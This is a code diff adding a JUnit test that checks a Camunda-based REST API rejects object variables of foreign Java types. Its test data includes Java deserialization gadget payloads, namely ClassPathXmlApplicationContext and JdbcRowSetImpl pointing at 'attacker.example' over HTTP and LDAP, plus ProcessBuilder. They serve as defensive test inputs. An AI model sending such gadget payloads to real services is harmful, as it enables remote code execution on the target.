@@ -19,6 +19,7 @@ import java.util.HashMap;
 import java.util.Locale;
 import java.util.Map;
 import java.util.UUID;
+import java.util.stream.Stream;
 import org.camunda.bpm.engine.HistoryService;
 import org.camunda.bpm.engine.IdentityService;
 import org.camunda.bpm.engine.ManagementService;
@@ -30,6 +31,8 @@ import org.camunda.bpm.engine.task.Task;
 import org.camunda.bpm.model.bpmn.Bpmn;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.SpringBootTest;
@@ -239,6 +242,64 @@ class EngineRestTests {
 
     assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
     assertThat(processInstanceCount()).isEqualTo(instancesBefore);
+  }
+
+  /**
+   * A foreign Java type in every serialization format a client may name, with a valid request or
+   * junk, and the error type: our validation's, or Camunda's own for a value it cannot store.
+   */
+  static Stream<Arguments> foreignObjectVariables() {
+    String context = "org.springframework.context.support.ClassPathXmlApplicationContext";
+    String json = "application/json";
+    String validation = "InvalidInputException";
+    String unstorable = "InvalidRequestException";
+    return Stream.of(
+        Arguments.of(context, json, TestRequests.recyclingPlantJson(newReference()), validation),
+        Arguments.of(context, json, "\"http://attacker.example/context.xml\"", validation),
+        Arguments.of("com.sun.rowset.JdbcRowSetImpl", json, "{\"dataSourceName\": \"ldap://attacker.example/x\", \"autoCommit\": true}", validation),
+        Arguments.of("java.lang.ProcessBuilder", json, "{}", validation),
+        Arguments.of("ru.mos.localisation.NoSuchType", json, TestRequests.recyclingPlantJson(newReference()), validation),
+        Arguments.of("java.util.HashMap", json, TestRequests.recyclingPlantJson(newReference()), validation),
+        // the request record's own type, but not from the investor API
+        Arguments.of("ru.mos.localisation.intake.NewLocalisationRequest", json, TestRequests.recyclingPlantJson(newReference()), validation),
+        // a format without a serializer is stored as given, and refused unread by registration
+        Arguments.of(context, "application/xml", "<x/>", validation),
+        Arguments.of(context, "text/plain", TestRequests.recyclingPlantJson(newReference()), validation),
+        Arguments.of(context, null, TestRequests.recyclingPlantJson(newReference()), unstorable),
+        Arguments.of(null, json, TestRequests.recyclingPlantJson(newReference()), unstorable));
+  }
+
+  @ParameterizedTest(name = "[{index}] {0} as {1}")
+  @MethodSource("foreignObjectVariables")
+  void startWithAnObjectVariableOfAForeignJavaTypeIsABadRequestAndCreatesNothing(
+      String objectTypeName, String format, String value, String errorType) throws Exception {
+    ObjectNode body = objectMapper.createObjectNode();
+    ObjectNode request = body.putObject("variables").putObject(ProcessVariables.REQUEST);
+    request.put("type", "Object");
+    request.put("value", value);
+    ObjectNode info = request.putObject("valueInfo");
+    if (objectTypeName != null) {
+      info.put("objectTypeName", objectTypeName);
+    }
+    if (format != null) {
+      info.put("serializationDataFormat", format);
+    }
+    long instancesBefore = processInstanceCount();
+    long rowsBefore = registryRowCountAll();
+
+    HttpResponse<String> response = start(ADMIN, body);
+
+    assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
+    assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(type -> assertThat(type).startsWith("application/json"));
+    JsonNode error = json(response);
+    assertThat(error.path("type").asText()).as(response.body()).isEqualTo(errorType);
+    assertThat(error.path("message").asText()).isNotBlank();
+    if (errorType.equals("InvalidInputException")) {
+      assertThat(error.path("message").asText()).contains("request: must be a Json variable");
+    }
+    assertThat(response.body()).doesNotContain("\tat ");
+    assertThat(processInstanceCount()).isEqualTo(instancesBefore);
+    assertThat(registryRowCountAll()).isEqualTo(rowsBefore);
   }
 
   @Test
@@ -551,6 +612,10 @@ class EngineRestTests {
         .param(externalReference)
         .query(Long.class)
         .single();
+  }
+
+  private long registryRowCountAll() {
+    return jdbc.sql("SELECT COUNT(*) FROM localisation_request").query(Long.class).single();
   }
 
   private Map<String, Object> registryRow(String externalReference) {
